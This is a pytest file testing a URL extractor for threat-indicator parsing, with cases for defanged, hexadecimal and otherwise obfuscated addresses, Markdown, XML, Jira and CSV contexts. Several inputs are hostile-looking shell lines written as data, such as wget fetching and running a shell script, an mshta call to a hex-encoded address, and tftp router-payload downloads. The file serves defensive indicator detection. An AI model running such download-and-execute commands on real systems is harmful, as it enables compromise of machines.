"""URLs: what is recognised, and what only looks like it, with the reason."""

import pytest
from finds import found

from tqimap.indicators import Options, find

KEPT = [
    ("URL", "telnet://evil-site.com/x/y", "http://evil-site.com/x/y", "a path behind a connection that has none"),
    ("URL", "pay 1,99 at quota-demo.com/pay?x=1", "http://quota-demo.com/pay?x=1", "a price, and no address"),
    ("URL", "http://quota-demo.com/a;il faut", "http://quota-demo.com/a", "the next word of the sentence"),
    ("URL", "http://quota-demo.com/a.php;NEW ORDER.exe", "http://quota-demo.com/a.php", "the next cell"),
    ("URL", "http://quota-demo.com/a&amp;b x", "http://quota-demo.com/a&b", "an entity"),
    ("URL", "http://quota-demo.com/a&shy;b&#173;c x", "http://quota-demo.com/abc", "one that nobody sees"),
    ("URL", "http://quota-demo.com/a;v=1 x", "http://quota-demo.com/a;v=1", "a parameter of the path (RFC 3986, 3.3)"),
    ("URL", "http://quota-demo.com/a?b;c x", "http://quota-demo.com/a?b;c", "in a query"),
    ("URL", "http://quota-demo.com/a,False,True", "http://quota-demo.com/a", "cells that say yes or no"),
    ("URL", "http://quota-demo.com/a?b=1,no x", "http://quota-demo.com/a?b=1,no", "in a query"),
    ("URL", "h('Location: https://quota-demo.com/?s='.$id)", "https://quota-demo.com/?s=", "a text in PHP ends"),
    ("URL", "GET https://quota-demo.com/P('a')/N x", "https://quota-demo.com/P('a')/N", "a key of OData"),
    ("URL", "klik s.id/Bca-2 dan u.to/q9xZ", "http://s.id/Bca-2", "a short link"),
    ("URL", "klik s.id/Bca-2 dan u.to/q9xZ", "http://u.to/q9xZ", "a short link"),
    ("URL", "see x.team/about/us", "http://x.team/about/us", "one letter, and a path"),
    ("URL", "http://quota-demo.com/a?b=c#d", "http://quota-demo.com/a?b=c#d", "path, query, fragment"),
    ("URL", '<a xmlns="x" href="http://quota-demo.com/a">', "http://quota-demo.com/a", "beside a namespace"),
    ("URL", "join https://t . me/quota", "https://t.me/quota", "a name of one letter"),
    ("URL", "(see http://quota-demo.com/a_(b))", "http://quota-demo.com/a_(b)", "balanced brackets are its own"),
    ("URL", "[http://quota-demo.com/a](http://quota-demo.com/a)", "http://quota-demo.com/a", "Markdown"),
    ("URL", "<url>http://quota-demo.com/a</url>", "http://quota-demo.com/a", "XML"),
    ("URL", "'http://quota-demo.com/a','x'", "http://quota-demo.com/a", "quotes"),
    ("URL", "a,http://quota-demo.com/a,b", "http://quota-demo.com/a", "a field of CSV"),
    ("URL", "http://quota-demo.com/0,1518,druck.html", "http://quota-demo.com/0,1518,druck.html", "commas of its own"),
    ("URL", "http://quota-demo.com/a?b=1&amp;c=2", "http://quota-demo.com/a?b=1&c=2", "HTML's entity"),
    ("URL", "http://quota-demo.com/a&quot;http://b.com", "http://quota-demo.com/a", "a quote before the next one"),
    ("URL", "http://quota-demo.com/?b&copy=2&lt=3", "http://quota-demo.com/?b&copy=2&lt=3", "fields named as entities"),
    ("URL", "http://u:p@quota-demo.com:8080/", "http://u:p@quota-demo.com:8080/", "user and port"),
    ("URL", "http://[2d3a:bad:cafe::25]/a", "http://[2d3a:bad:cafe::25]/a", "an address of IPv6"),
    ("URL", "http://44.128.9.30/gate.php", "http://44.128.9.30/gate.php", "an address of IPv4"),
    ("URL", "URL=file://quota-demo.com@80/x/a.exe", "file://quota-demo.com:80/x/a.exe", "a share by WebDAV"),
    ("URL", "URL=file://44.128.7.21@SSL@8443/x", "file://44.128.7.21:8443/x", "the same by TLS"),
    ("URL", "file://quota-demo.com@ssl/x", "file://quota-demo.com:443/x", "the same at its usual port"),
    ("URL", "URL=file://quota-demo.com/x", "file://quota-demo.com/x", "a share, as shortcuts name it"),
    ("URL", "quota-demo.com/gate.php", "http://quota-demo.com/gate.php", "written without a scheme"),
    ("URL", "quota-demo.com/a?u=http://b.com/c", "http://quota-demo.com/a?u=http://b.com/c", "holds another"),
    ("URL", "http://746653973/a", "http://746653973/a", "an address as one number"),
    ("URL", "hxxp://44[.]0x80[.]9[.]30/a", "http://44.0x80.9.30/a", "an address with a hexadecimal number"),
    ("URL", "mshta http://0x2c80091e/a", "http://0x2c80091e/a", "an address as one hexadecimal number"),
    ("URL", "http://0x2c.8390942/a", "http://0x2c.8390942/a", "an address as two numbers"),
    ("URL", "**http://quota-demo.com/a**", "http://quota-demo.com/a", "emphasis"),
    ("URL", "{color:red}http://quota-demo.com/a{color}", "http://quota-demo.com/a", "a macro of Jira round it"),
    ("URL", "{quote}see http://quota-demo.com/a{quote}", "http://quota-demo.com/a", "a macro of Jira behind it"),
    ("URL", "{color:red}http://quota-demo.com/a{color}.", "http://quota-demo.com/a", "and a stop behind it"),
    ("URL", "block @quota-demo.com/a?b=1", "http://quota-demo.com/a?b=1", "no package has a query"),
    ("URL", "quota-demo.com/x/44.128.7.21/a.zip", "http://quota-demo.com/x/44.128.7.21/a.zip", "an address in a path"),
    ("URL", "quota-demo.com/a?ip=44.128.7.21&b", "http://quota-demo.com/a?ip=44.128.7.21&b", "an address in a query"),
    ("URL", "quota-demo.com/a?e=bob@x.com&b", "http://quota-demo.com/a?e=bob@x.com&b", "an address in a query"),
    ("URL", "(quota-demo[.]com/#bob[@]x.com)", "http://quota-demo.com/#bob@x.com", "the same, defanged"),
    ("URL", "44.128.7.21/a?e=bob@x.com", "http://44.128.7.21/a?e=bob@x.com", "the same behind an address"),
    ("URL", "quota-demo.com/a?file=b.exe&x", "http://quota-demo.com/a?file=b.exe&x", "no label, but a field"),
    ("URL", "quota-demo.com/a?f=/etc/passwd", "http://quota-demo.com/a?f=/etc/passwd", "a path in a query"),
    ("URL", "quota-demo.com/x/00-1B-44-11-3A-B7", "http://quota-demo.com/x/00-1B-44-11-3A-B7", "no MAC address"),
    ("URL", "quota-demo.com/v4.3.2.1/x", "http://quota-demo.com/v4.3.2.1/x", "a version in a path"),
    ("URL", "quota-demo.com/x/net@v0.19.0.1", "http://quota-demo.com/x/net@v0.19.0.1", "the version of a package"),
    ("URL", "http://quota-demo.com/a{b}", "http://quota-demo.com/a{b}", "braces of its own"),
    ("URL", "http://quota-demo.com/client_", "http://quota-demo.com/client_", "an underscore at its end"),
    ("URL", "http://\u2708quota.ws/a", "http://\u2708quota.ws/a", "a picture in a name"),
    ("URL", "http://quota-demo.com/a[blog post].", "http://quota-demo.com/a", "AsciiDoc"),
    ("URL", "http://quota-demo.com[blog]", "http://quota-demo.com", "AsciiDoc"),
    ("URL", "http://quota-demo.com/h[v1]/a.php", "http://quota-demo.com/h[v1]/a.php", "brackets of a path"),
    ("URL", "http://quota-demo.com/?a[]=1&b[c]", "http://quota-demo.com/?a[]=1&b[c]", "an array in a query"),
    ("URL", "wget http://44.128.9.30/a.sh;sh a.sh", "http://44.128.9.30/a.sh", "the next command of a shell"),
    ("URL", "wget http://44.128.9.30/a.sh&&chmod 7 a.sh", "http://44.128.9.30/a.sh", "the next command of a shell"),
    ("URL", "curl http://44.128.9.30/a&&timeout 9", "http://44.128.9.30/a", "the next command of another shell"),
    ("URL", "http://44.128.9.30/a?b=1&&c=2", "http://44.128.9.30/a?b=1&&c=2", "two signs in a query"),
    ("URL", "\u8bbf\u95eehttp://quota-demo.com/a\u3002\u7136\u540e", "http://quota-demo.com/a", "a full stop"),
    ("URL", "http://quota-demo.com/a\uff0c\u7136\u540e", "http://quota-demo.com/a", "a comma and prose without blanks"),
    ("URL", "http://quota-demo.com/a\u2014then", "http://quota-demo.com/a", "a dash"),
    ("URL", "see file:////quota-demo.com/share/a.exe", "file://quota-demo.com/share/a.exe", "a share"),
    ("URL", "ldap://44.128.7.21:1389/a", "ldap://44.128.7.21:1389/a", "the URL of a directory"),
    ("URL", "wget tftp://44.128.7.21/mips", "tftp://44.128.7.21/mips", "what fetches programs for routers"),
    ("URL", "main.c asks quota-demo.cc/login", "http://quota-demo.cc/login", "a path beside a source"),
    ("URL", "GET quota.run/x.exe HTTP/1.1", "http://quota.run/x.exe", "the name of a file behind a host"),
    ("URL", "at pepper.rs/wp-admin/x.php", "http://pepper.rs/wp-admin/x.php", "two segments behind a host"),
    ("URL", "**ftp://quota-demo.com/**, x", "ftp://quota-demo.com/", "in bold letters"),
    ("URL", "quota.rest:8080/a", "http://quota.rest:8080/a", "a port and a path behind a host"),
]  # fmt: skip

NOTHING = [
    ("see server: Splunk Enterprise 9.1.2.0 at http://10.0.0.1", "no computer has this last number"),
    ("list@sandbox.test http://intranet/x http://printer.local/", "reserved names (RFC 6761) and names of one label"),
    ('xmlns="http://www.w3.org/1999/xhtml"', "the name of an XML namespace"),
    ("<a xmlns='http://quota-demo.com/ns/1.0' xmlns:b=\"http://quota-demo.com/b?c\"/>", "the names of XML namespaces"),
    ('<a xmlns:q = "https://quota-demo.com/q">', "the name of an XML namespace"),
    ("http://0x7f000001/a http://0x100.1.2.3/b http://0x/c", "the own machine, and numbers that are no address"),
    ("wget hxxp://44.128.9.XXX:8080/a.sh", "an address with a number left out"),
    ("https://protect-eu.mimecast.com/s/abcd", "a rewritten link that does not tell its target"),
]  # fmt: skip


@pytest.mark.parametrize(("type_", "text", "value", "reason"), KEPT, ids=[f"{t}-{w}" for t, _, _, w in KEPT])
def test_a_url_is_found_where_it_stands(type_: str, text: str, value: str, reason: str) -> None:
    assert (type_, value) in found(text), reason


@pytest.mark.parametrize(("text", "reason"), NOTHING, ids=[reason for _, reason in NOTHING])
def test_what_only_looks_like_a_url_is_none(text: str, reason: str) -> None:
    assert found(text) == [], reason


def test_the_host_of_a_url_is_a_second_indicator_only_on_request() -> None:
    text = "http://quota-demo.com/x"
    assert [f.type for f in find(text).found] == ["URL"]
    assert {f.type for f in find(text, Options(hosts_of_urls=True)).found} == {"URL", "FQDN"}


def test_a_url_and_its_host_are_both_kept_where_both_were_written() -> None:
    assert [f.type for f in find("quota-demo.com http://quota-demo.com/x").found] == ["FQDN", "URL"]
